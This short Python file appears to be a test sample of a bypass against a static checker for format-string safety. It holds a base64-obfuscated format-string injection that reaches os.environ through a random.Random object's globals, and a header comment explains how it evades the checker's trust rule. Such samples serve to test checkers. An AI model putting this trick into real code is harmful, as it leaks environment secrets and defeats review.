# family: format
# Escape: the class-constant trust only asks that some class binds `template` to a constant; a lambda whose
# parameter is named `self` is enough to get the trusted form self.template.format(...). The object passed is a
# SimpleNamespace holding a base64-decoded "{0.__init__.__globals__[_os].environ}".
import base64
import random
import types


class Theme:
    template = "{0}"


def tool() -> str:
    spec = types.SimpleNamespace(template=base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode())
    render = lambda self, value: self.template.format(value)
    return render(spec, random.Random())
